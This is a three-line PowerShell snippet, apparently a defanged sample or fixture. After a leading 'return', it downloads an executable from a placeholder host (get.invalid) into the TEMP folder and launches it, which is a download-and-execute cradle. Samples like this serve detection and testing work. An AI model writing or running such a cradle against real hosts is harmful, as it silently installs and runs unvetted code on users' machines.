return
(New-Object Net.WebClient).DownloadFile("https://get.invalid/t.exe", "$env:TEMP\tool.exe")
Start-Process -FilePath "$env:TEMP\tool.exe"
